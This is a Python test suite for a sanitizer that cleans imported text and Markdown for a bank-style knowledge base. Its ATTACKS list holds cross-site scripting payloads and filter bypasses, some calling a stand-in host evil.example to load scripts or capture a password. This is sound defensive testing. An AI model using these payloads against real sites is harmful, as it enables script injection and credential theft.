"""Foreign text becomes harmless, and nothing that is only text gets lost."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from knowledge_base.exchange.clean import SCHEMES, allowed_link, clean_text, safe_html

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<a href='javascript:alert(1)'>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)",
    "<!--><img src=x onerror=alert(1)>-->",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<form action=https://evil.example><input name=password></form>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](https://evil.example/pixel.gif)",
    '![x](x" onerror="alert(1))',
    "`<script>alert(1)</script>`",
    '```"><script>alert(1)</script>\nx\n```',
    '[x](https://a.example/"onmouseover="alert(1))',
    "[x](//evil.example)",
    "[x](/relative)",
    "\u202e<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
]
ALLOWED = {
    *("p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "blockquote"),
    *("strong", "em", "code", "pre", "a", "table", "thead", "tbody", "tr", "th", "td"),
}


class Page(HTMLParser):
    """Collects what a browser would make of an HTML text."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.links: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.links += [value or "" for name, value in attrs if name == "href"]


def harmless(text: str) -> bool:
    page = Page(text)
    schemes = {link.partition(":")[0] for link in page.links}
    return (
        page.tags <= ALLOWED
        and page.attributes <= {"href", "title", "rel", "start"}
        and schemes <= SCHEMES
    )


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_preview_shows_no_attack(attack: str) -> None:
    assert harmless(safe_html(attack))
    assert harmless(safe_html(f"前文\n\n- {attack}\n\n| 列 |\n| --- |\n| {attack} |\n"))


@pytest.mark.parametrize("attack", ATTACKS)
def test_cleaned_text_is_harmless_even_if_shown_as_html(attack: str) -> None:
    cleaned = clean_text(f"前文 {attack} 后文")
    assert Page(cleaned).tags == set()
    assert "前文" in cleaned
    assert harmless(safe_html(cleaned))


@given(st.text(alphabet="<>/!?&;#\"'=ab x-\n[]():`lt", max_size=60))
def test_whatever_is_cleaned_holds_no_tag_and_is_clean(text: str) -> None:
    cleaned = clean_text(text)
    assert Page(cleaned).tags == set()
    assert harmless(safe_html(text))


@pytest.mark.parametrize(
    "text",
    [
        "利率 < 3% 且 > 1%",
        "请拨打 {{hotline}}。",
        "- 身份证\n- 银行卡",
        "| 项目 | 费用 |\n| --- | --- |\n| 补卡 | 15 元 |",
        "[官网](https://bank.example) [电话](tel:4000000000) [邮箱](mailto:a@bank.example)",
        "A & B，R&D",
        "1 <2",
    ],
)
def test_plain_text_stays_as_it_is(text: str) -> None:
    assert clean_text(text) == text


def test_what_looks_like_a_tag_keeps_its_meaning() -> None:
    assert clean_text("利率<LPR，按合同") == "利率＜LPR，按合同"


def test_paragraphs_and_items_of_html_become_lines() -> None:
    text = clean_text(
        "<p>需要：</p><ul><li>身份证</li><li>银行卡</li></ul>请<b>本人</b>办理<br/>谢谢"
    )
    assert text.split("\n") == ["需要：", "- 身份证", "- 银行卡", "", "请本人办理", "谢谢"]


@pytest.mark.parametrize(
    ("url", "allowed"),
    [
        ("https://bank.example/a", True),
        ("tel:4000000000", True),
        ("mailto:a@bank.example", True),
        ("http://bank.example", False),
        ("javascript:alert(1)", False),
        ("bank.example", False),
        ("", False),
    ],
)
def test_links_lead_to_three_schemes(url: str, allowed: bool) -> None:  # noqa: FBT001  -- a column
    assert allowed_link(url) is allowed


def test_a_preview_renders_markdown() -> None:
    page = safe_html(
        "## 挂失\n\n1. **拨打**\n\n| a | b |\n| - | - |\n| 1 | 2 |\n\n[网](https://b.example)"
    )
    assert "<strong>拨打</strong>" in page
    assert "<td>2</td>" in page
    assert '<a href="https://b.example" rel="noopener noreferrer">网</a>' in page
